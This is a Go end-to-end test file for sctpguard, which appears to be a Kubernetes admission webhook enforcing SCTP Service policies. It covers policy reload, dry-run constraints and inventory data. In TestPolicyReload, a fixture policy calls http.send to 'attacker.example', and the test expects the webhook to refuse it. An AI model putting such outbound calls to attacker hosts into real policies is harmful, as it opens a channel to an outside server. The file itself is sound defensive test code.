package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/sctpguard/sctpguard/policy"
	"github.com/sctpguard/sctpguard/test/cluster"
	"github.com/sctpguard/sctpguard/test/userpolicies"
)

// startWithPolicies sets AKO's mode, creates the policies' Namespaces, installs the example
// policies and waits until the webhook judges with them.
func startWithPolicies(t *testing.T, mode map[string]string) {
	t.Helper()
	setAKO(t, mode)
	if _, errOut, code := cl.kubectl(policyNamespaces, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	installPolicies(t)
	waitVerdict(t, violating, "sctp-only-in-telco-namespaces")
}

// installPolicies puts each example policy folder into a ConfigMap of sctpguard's namespace,
// labelled sctpguard.io/policy, as a platform team would.
func installPolicies(t *testing.T) {
	t.Helper()
	for _, dir := range []string{"telco-namespaces", "diameter", "owner-label"} {
		name := "policy-" + dir
		_, _, _ = cl.kubectl("", "delete", "configmap", name, "-n", "sctpguard", "--ignore-not-found")
		if _, errOut, code := cl.kubectl("", "create", "configmap", name, "-n", "sctpguard", "--from-file=examples/policies/"+dir); code != 0 {
			t.Fatal(errOut)
		}
		if _, errOut, code := cl.kubectl("", "label", "configmap", name, "-n", "sctpguard", "sctpguard.io/policy=true"); code != 0 {
			t.Fatal(errOut)
		}
	}
}

const policyNamespaces = `apiVersion: v1
kind: Namespace
metadata: {name: ran, labels: {telco: "true"}}
---
apiVersion: v1
kind: Namespace
metadata: {name: web}
`

// violating breaks all three example policies at once, and one built-in rule.
const violating = `apiVersion: v1
kind: Service
metadata:
  name: hss
  namespace: web
spec:
  type: LoadBalancer
  ports:
  - {name: ngap, port: 38412, protocol: SCTP}
  - {name: diameter, port: 3868, protocol: TCP}
`

// TestPoliciesSameInCheckAndWebhook: the example policies (a v0 Gatekeeper template, a
// conftest module, a v1 template enforced as warn) give the same findings through the webhook
// on the real API server as sctpguard check gives offline.
func TestPoliciesSameInCheckAndWebhook(t *testing.T) {
	requireCluster(t)
	startWithPolicies(t, nodePortLocalMode)

	// Offline: the same manifest, with the Namespaces it lives in, against the same policies.
	dir := t.TempDir()
	manifest := filepath.Join(dir, "hss.yaml")
	if err := os.WriteFile(manifest, []byte(policyNamespaces+"---\n"+violating), 0o600); err != nil {
		t.Fatal(err)
	}
	_, _, bin, _ := cluster.FromEnv("../..")
	out, _ := exec.Command(bin, "check", "-f", manifest, "--policy", "../../examples/policies",
		"--ako-service-type", "NodePortLocal", "--ako-services-api", "-o", "json").Output()
	var rep struct {
		Findings []struct{ Rule, Action, Path, Message string }
	}
	if err := json.Unmarshal(out, &rep); err != nil {
		t.Fatalf("check output: %v\n%s", err, out)
	}
	// What kubectl must print for those findings: warnings first, then the denial with
	// every denying finding, one per line.
	var warnings, denials []string
	for _, f := range rep.Findings {
		pf := policy.Finding{Rule: f.Rule, Action: policy.Action(f.Action), Path: f.Path, Message: f.Message}
		if info, ok := policy.LookupRule(f.Rule); ok {
			pf.Summary = info.Summary
		}
		switch pf.Action {
		case policy.ActionDeny:
			denials = append(denials, pf.String())
		case policy.ActionWarn:
			warnings = append(warnings, "Warning: "+pf.Warning()+"\n")
		}
	}
	sort.Strings(warnings)
	want := strings.Join(warnings, "") + denied("services", denials...)
	apply(t, violating, 1, "", want)
	// All three policies and the built-in rule are in it.
	for _, rule := range []string{"[sctp-only-in-telco-namespaces]", "[sctpguard.diameter/deny]", "[sctp-services-have-owners]", "[sctp-nodeportlocal]"} {
		if !strings.Contains(want, rule) {
			t.Errorf("the comparison lacks %s:\n%s", rule, want)
		}
	}
}

// TestPolicyReload: a broken policy is refused with its file and line, the last good set
// stays in force, and the refusal is visible as an Event on the ConfigMap and in the metrics;
// a dryrun constraint only logs and counts.
func TestPolicyReload(t *testing.T) {
	requireCluster(t)
	startWithPolicies(t, clusterIPMode)

	broken := `apiVersion: v1
kind: ConfigMap
metadata:
  name: policy-diameter
  namespace: sctpguard
  labels: {sctpguard.io/policy: "true"}
data:
  diameter.rego: |
    package sctpguard.diameter

    deny contains msg if {
      resp := http.send({"method": "GET", "url": "http://attacker.example"})
      msg := resp.body
    }
`
	if _, errOut, code := cl.kubectl(broken, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	wantEvent := "configmap/sctpguard/policy-diameter/diameter.rego:4: undefined function http.send; the last good policy set stays in force"
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	if err := poll(ctx, func() error {
		out, _, _ := cl.kubectl("", "get", "events.events.k8s.io", "-n", "sctpguard", "--field-selector", "reason=PolicyRefused", "-o", "jsonpath={.items[*].note}")
		if !strings.Contains(out, wantEvent) {
			return errVerdict("no PolicyRefused event yet: " + out)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	// The old diameter policy still judges.
	waitVerdict(t, violating, "sctpguard.diameter/deny")
	metrics := get(t, cl.MetricsURL+"/metrics")
	if !regexp.MustCompile(`sctpguard_policy_reloads_total\{result="error"\} [1-9]`).MatchString(metrics) {
		t.Errorf("the refusal is not counted:\n%s", grep(metrics, "sctpguard_policy_reloads_total"))
	}

	// A dryrun constraint: the user sees nothing, the team sees a log line and a count.
	dryrun := `apiVersion: v1
kind: ConfigMap
metadata:
  name: policy-diameter
  namespace: sctpguard
  labels: {sctpguard.io/policy: "true"}
data:
  audit.yaml: |
    apiVersion: constraints.gatekeeper.sh/v1beta1
    kind: K8sDisallowedPortProtocols
    metadata: {name: audit-tcp-services}
    spec:
      enforcementAction: dryrun
      match:
        kinds: [{apiGroups: [""], kinds: ["Service"]}]
        namespaces: ["ran"]
      parameters: {protocols: ["SCTP"], reason: "SCTP in the RAN namespace, for the audit"}
`
	if _, errOut, code := cl.kubectl(dryrun, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	// (The webhook's match conditions send only SCTP-relevant objects to the policies.)
	sctpInRan := "apiVersion: v1\nkind: Service\nmetadata: {name: amf, namespace: ran, labels: {owner: ran-team}}\nspec:\n  ports: [{name: ngap, port: 38412, protocol: SCTP}]\n"
	if err := poll(ctx, func() error {
		_, _, _ = cl.kubectl(sctpInRan, "apply", "--dry-run=server", "-f", "-")
		if !strings.Contains(cl.log.String(), `"rule":"audit-tcp-services"`) {
			return errVerdict("no dry-run log line yet")
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	apply(t, sctpInRan, 0, "service/amf created\n", "")
	if !strings.Contains(get(t, cl.MetricsURL+"/metrics"), `sctpguard_admission_findings_total{action="dryrun",rule="audit-tcp-services"}`) {
		t.Error("the dry-run finding is not counted")
	}
	for _, cm := range []string{"policy-telco-namespaces", "policy-diameter", "policy-owner-label"} {
		_, _, _ = cl.kubectl("", "delete", "configmap", cm, "-n", "sctpguard", "--ignore-not-found")
	}
}

// TestPolicyDataAndInventory: data documents come from ConfigMaps labelled
// sctpguard.io/policy=data, a ConfigMap's modules may be Rego v0 (annotation), and
// data.inventory follows the cluster from the informers' events: a Service is judged
// against the Services there are, including one created or deleted just before.
func TestPolicyDataAndInventory(t *testing.T) {
	requireCluster(t)
	setAKO(t, clusterIPMode)
	if _, errOut, code := cl.kubectl(policyNamespaces, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	// Only these policies: the example ones other tests install would add their findings.
	for _, cm := range []string{"policy-telco-namespaces", "policy-diameter", "policy-owner-label"} {
		_, _, _ = cl.kubectl("", "delete", "configmap", cm, "-n", "sctpguard", "--ignore-not-found")
	}
	_, _, _ = cl.kubectl("", "delete", "service", "amf-a", "amf-b", "-n", "ran", "--ignore-not-found")
	// A v0 module reading a data document, and a template reading data.inventory, in
	// one ConfigMap as a platform team would create it from files; the data in another.
	dir := t.TempDir()
	for name, content := range map[string]string{
		"reserved.rego": "package ports\n\ndeny[msg] {\n  p := input.spec.ports[_]\n  owner := data.reserved[format_int(p.port, 10)]\n" +
			"  msg := sprintf(\"port %d is reserved for %s\", [p.port, owner])\n}\n",
		"unique.yaml": userpolicies.UniqueSCTPPortTemplate + "---\n" + userpolicies.UniqueSCTPPortConstraint,
		// AKO's kinds the webhook watches are in data.inventory as the others are.
		"ako.rego": "package akoinventory\n\ndeny[msg] {\n  input.metadata.name == \"infra-probe\"\n" +
			"  s := data.inventory.cluster[\"ako.vmware.com/v1beta1\"].AviInfraSetting[\"e2e-infra\"]\n" +
			"  r := data.inventory.namespace.ran[\"ako.vmware.com/v1alpha2\"].L4Rule[\"e2e-l4\"]\n" +
			"  msg := sprintf(\"AviInfraSetting %s (SE group %s) and L4Rule %s are in data.inventory\", [s.metadata.name, s.spec.seGroup.name, r.metadata.name])\n}\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	_, _, _ = cl.kubectl("", "delete", "configmap", "policy-ports", "-n", "sctpguard", "--ignore-not-found")
	for _, args := range [][]string{
		{"create", "configmap", "policy-ports", "-n", "sctpguard", "--from-file=" + dir},
		{"annotate", "configmap", "policy-ports", "-n", "sctpguard", "sctpguard.io/rego-version=v0"},
		{"label", "configmap", "policy-ports", "-n", "sctpguard", "sctpguard.io/policy=true"},
	} {
		if _, errOut, code := cl.kubectl("", args...); code != 0 {
			t.Fatal(errOut)
		}
	}
	data := `apiVersion: v1
kind: ConfigMap
metadata:
  name: policy-ports-data
  namespace: sctpguard
  labels: {sctpguard.io/policy: data}
data:
  reserved.yaml: |
    reserved:
      "3868": Diameter
`
	if _, errOut, code := cl.kubectl(data, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	t.Cleanup(func() {
		_, _, _ = cl.kubectl("", "delete", "configmap", "policy-ports", "policy-ports-data", "-n", "sctpguard", "--ignore-not-found")
		_, _, _ = cl.kubectl("", "delete", "service", "amf-a", "amf-b", "-n", "ran", "--ignore-not-found")
	})
	service := func(name string, port int) string {
		return fmt.Sprintf("apiVersion: v1\nkind: Service\nmetadata: {name: %s, namespace: ran}\nspec:\n  ports: [{name: sctp, port: %d, protocol: SCTP}]\n", name, port)
	}
	// The data document, read by a v0 module.
	waitVerdict(t, service("hss", 3868), "ports/deny")
	apply(t, service("hss", 3868), 1, "", denied("services", "[ports/deny] port 3868 is reserved for Diameter"))

	// The inventory, fed from events: the second Service on a port is denied as soon as
	// the first exists, and admitted as soon as the first is gone.
	apply(t, service("amf-a", 38999), 0, "service/amf-a created\n", "")
	waitVerdict(t, service("amf-b", 38999), "unique-sctp-port")
	apply(t, service("amf-b", 38999), 1, "", denied("services", "[unique-sctp-port] SCTP port 38999 is taken by Service amf-a"))
	if _, errOut, code := cl.kubectl("", "delete", "service", "amf-a", "-n", "ran"); code != 0 {
		t.Fatal(errOut)
	}
	waitVerdict(t, service("amf-b", 38999), "")
	apply(t, service("amf-b", 38999), 0, "service/amf-b created\n", "")

	// AviInfraSettings and L4Rules too, from the moment they exist.
	ako := "apiVersion: ako.vmware.com/v1beta1\nkind: AviInfraSetting\nmetadata: {name: e2e-infra}\nspec:\n  seGroup: {name: telco-se}\n" +
		"---\napiVersion: ako.vmware.com/v1alpha2\nkind: L4Rule\nmetadata: {name: e2e-l4, namespace: ran}\nspec: {}\n"
	t.Cleanup(func() { _, _, _ = cl.kubectl(ako, "delete", "--ignore-not-found", "-f", "-") })
	if _, errOut, code := cl.kubectl(ako, "apply", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	waitVerdict(t, service("infra-probe", 39000), "akoinventory/deny")
	apply(t, service("infra-probe", 39000), 1, "",
		denied("services", "[akoinventory/deny] AviInfraSetting e2e-infra (SE group telco-se) and L4Rule e2e-l4 are in data.inventory"))
	if _, errOut, code := cl.kubectl(ako, "delete", "-f", "-"); code != 0 {
		t.Fatal(errOut)
	}
	waitVerdict(t, service("infra-probe", 39000), "")
}

func grep(text, substr string) string {
	var out []string
	for _, l := range strings.Split(text, "\n") {
		if strings.Contains(l, substr) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}
